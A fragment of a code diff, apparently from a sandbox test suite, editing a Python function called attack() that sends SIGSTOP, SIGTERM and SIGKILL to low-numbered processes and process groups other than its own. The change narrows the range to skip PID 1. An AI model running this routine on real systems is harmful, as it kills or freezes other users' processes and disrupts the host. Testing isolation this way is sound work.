@@ -1,10 +1,10 @@
-# Sends SIGSTOP, SIGTERM and SIGKILL to the first 300 process and group numbers but its own.
+# Sends SIGSTOP, SIGTERM and SIGKILL to every low process and group number but its own.
 def attack():
     import posix
 
     hit = False
     for number in (19, 15, 9):
-        for target in range(1, 300):
+        for target in range(2, 300):
             if target == posix.getpid():
                 continue
             for who in (target, -target):
